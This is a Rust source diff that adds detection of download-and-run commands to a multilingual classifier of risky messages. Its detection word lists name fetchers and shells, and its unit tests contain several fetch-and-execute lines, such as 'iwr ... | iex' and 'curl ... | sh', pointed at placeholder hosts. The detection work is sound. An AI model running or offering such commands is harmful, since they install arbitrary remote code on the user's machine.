@@ -28,7 +28,7 @@ use crate::category::RiskCategory;
 use crate::lexicon::{
     C, Classes, DE, EN, ES, FR, LANGUAGES, Lang, Lexicon, bits, class_names, noun_classes,
 };
-use crate::normalize::{Marks, is_word_char};
+use crate::normalize::{Marks, SEGMENT_SEPARATOR, is_word_char};
 
 /// The recogniser: the lexicon and the grammar over it.
 #[derive(Debug)]
@@ -1895,6 +1895,36 @@ fn is_executable(word: &str) -> bool {
     )
 }
 
+/// A command-line tool that fetches from a web address, and whether it
+/// also runs what it fetched (`mshta`, `msiexec /i`). PowerShell's long
+/// names count by their last part ("Invoke-WebRequest").
+fn fetcher(word: &str) -> Option<bool> {
+    match word.rsplit('-').next().unwrap_or(word) {
+        "mshta" | "msiexec" | "regsvr32" | "rundll32" => Some(true),
+        "iwr" | "irm" | "curl" | "wget" | "certutil" | "bitsadmin" | "webrequest"
+        | "restmethod" | "downloadstring" | "downloadfile" | "bitstransfer" => Some(false),
+        _ => None,
+    }
+}
+
+/// A shell or interpreter that runs what it is given (`| iex`, `| sh`,
+/// `powershell -c`).
+fn runs_code(word: &str) -> bool {
+    matches!(
+        word.rsplit('-').next().unwrap_or(word),
+        "iex"
+            | "expression"
+            | "sh"
+            | "bash"
+            | "zsh"
+            | "powershell"
+            | "pwsh"
+            | "cmd"
+            | "python"
+            | "python3"
+    )
+}
+
 /// Verbs that pull data out in bulk: "export", "extract", "dump".
 fn strong_export(word: &str) -> bool {
     [
@@ -3730,6 +3760,7 @@ impl<'a> Reader<'a> {
             back_from = next_back.max(clauses[n.saturating_sub(2)].toks.start);
         }
         self.install_lets_writer_in(clauses);
+        self.download_and_run(clauses);
         self.structured(clauses);
         self.lures(clauses, phone_at, &flags, requested);
     }
@@ -3806,6 +3837,66 @@ impl<'a> Reader<'a> {
                 self.push(RiskCategory::RemoteAccess, why, &clause.toks, None);
                 return;
             }
+        }
+    }
+
+    /// A command line that fetches a program or script from the web and
+    /// runs it (`powershell -c "iwr https://... | iex"`, `curl -s
+    /// https://... | sh`, `mshta https://...`): whoever pastes it into a
+    /// prompt installs what the writer chose, whatever the words around it
+    /// say. Shown whole in quotation marks, or in a clause told as someone
+    /// else's words, as never asked or as a supposition, it asks nothing.
+    fn download_and_run(&mut self, clauses: &[Clause]) {
+        let toks = self.toks;
+        if self
+            .found
+            .iter()
+            .any(|f| f.category == RiskCategory::SoftwareInstall)
+        {
+            return;
+        }
+        for i in 0..toks.len() {
+            let Some(runs_itself) = fetcher(self.word(i)) else {
+                continue;
+            };
+            // The address follows the tool, its options between.
+            let Some(link) = (i..toks.len().min(i + 4)).find(|&j| toks[j].link) else {
+                continue;
+            };
+            let launcher = (i.saturating_sub(4)..i)
+                .rev()
+                .find(|&j| runs_code(self.word(j)));
+            let runner = (link + 1..toks.len().min(link + 4))
+                .find(|&j| runs_code(self.word(j)) || is_executable(self.word(j)));
+            let runs = runs_itself || launcher.is_some() || runner.is_some();
+            let shown = toks[i].quoted && launcher.is_none_or(|j| toks[j].quoted);
+            let at = toks[i].start;
+            let set_apart = |spans: &[Range<usize>]| spans.iter().any(|s| s.contains(&at));
+            if !runs || shown || set_apart(&self.muted) || set_apart(&self.described) {
+                continue;
+            }
+            if set_apart(&self.scenes) {
+                continue;
+            }
+            let Some(clause) = clauses.iter().find(|c| c.toks.contains(&i)) else {
+                continue;
+            };
+            // Shown through the runner after the address, or the address.
+            let rest = &self.buffer[toks[link].end..];
+            let address = rest.trim_start();
+            let address_end = self.buffer.len() - address.len()
+                + address
+                    .find([' ', SEGMENT_SEPARATOR])
+                    .unwrap_or(address.len());
+            let end = runner.map_or(address_end, |j| toks[j].end);
+            let command = &self.buffer[toks[launcher.unwrap_or(i)].start..end];
+            self.push(
+                RiskCategory::SoftwareInstall,
+                format!("a command that fetches a program from the web and runs it: \"{command}\""),
+                &clause.toks,
+                None,
+            );
+            return;
         }
     }
 
@@ -4617,8 +4708,9 @@ impl<'a> Reader<'a> {
                     .map(|vb| (vb, program))
             })
             // "Instala esto y pásame el número: https://.../setup.exe",
-            // "install this, then ...: <link>": "this" is the program the
-            // message links next, a clause or two on.
+            // "install this, then ...: <link>", "lancez l'assistant
+            // ci-dessous": "this", or what the clause points below at, is
+            // the program the message links next, a clause or two on.
             .or_else(|| {
                 const LINK_WITHIN: usize = 16;
                 let vb = v.first(C::V_INSTALL).filter(|_| aimed)?;
@@ -4627,15 +4719,22 @@ impl<'a> Reader<'a> {
                     .get(vb + 1)
                     .filter(|_| v.range.contains(&(vb + 1)))?;
                 let word = &self.buffer[this.start..this.end];
-                if !matches!(
-                    word,
-                    "this" | "it" | "esto" | "eso" | "este" | "dies" | "das" | "ceci" | "ca"
-                ) {
+                let points_below = v
+                    .idx()
+                    .any(|i| i > vb && self.toks[i].cls & C::BELOW.bit() != 0);
+                if !points_below
+                    && !matches!(
+                        word,
+                        "this" | "it" | "esto" | "eso" | "este" | "dies" | "das" | "ceci" | "ca"
+                    )
+                {
                     return None;
                 }
+                // An aside inside the clause may carry the link: "(about
+                // 30 min): https://...".
                 let to = (v.range.end + LINK_WITHIN).min(self.toks.len());
-                let program = (v.range.end..to)
-                    .find(|&i| self.toks[i].program_link && !self.toks[i].quoted)?;
+                let program =
+                    (vb + 1..to).find(|&i| self.toks[i].program_link && !self.toks[i].quoted)?;
                 Some((vb, program))
             })
             .or_else(|| {
@@ -7929,5 +8028,47 @@ mod tests {
                 &[Scare],
             ),
         ]);
+    }
+
+    #[test]
+    fn a_command_that_fetches_and_runs_a_program_is_an_install() {
+        use RiskCategory::*;
+        check(&[
+            (
+                "Open the Run box, put in this command and hit Enter:\n\npowershell -nop -c \"iwr https://tools.example.net/c.ps1 | iex\"",
+                &[SoftwareInstall],
+            ),
+            (
+                "Öffnen Sie ein Terminal: curl -fsSL https://get.example.net/agent | sh",
+                &[SoftwareInstall],
+            ),
+            (
+                "Run mshta https://cdn.example.net/update.hta now.",
+                &[SoftwareInstall],
+            ),
+            // Shown, not asked: in quotation marks whole, said never to
+            // be asked, or only fetching a file.
+            (
+                "A typical lure reads \"powershell -c iwr https://x.example.net/a | iex\" and must be reported.",
+                &[],
+            ),
+            (
+                "We will never ask you to run curl https://get.example.net/agent | sh on your laptop.",
+                &[],
+            ),
+            (
+                "The report is at curl https://data.example.org/q3.csv -o q3.csv for anyone curious.",
+                &[],
+            ),
+        ]);
+    }
+
+    #[test]
+    fn an_install_pointed_below_takes_the_program_linked_there() {
+        use RiskCategory::*;
+        check(&[(
+            "Merci de lancer l'assistant indiqué ci-dessous avant vendredi (dix minutes) :\n\nhttps://upgrade.example.net/poste/assistant.exe",
+            &[SoftwareInstall, Urgency],
+        )]);
     }
 }
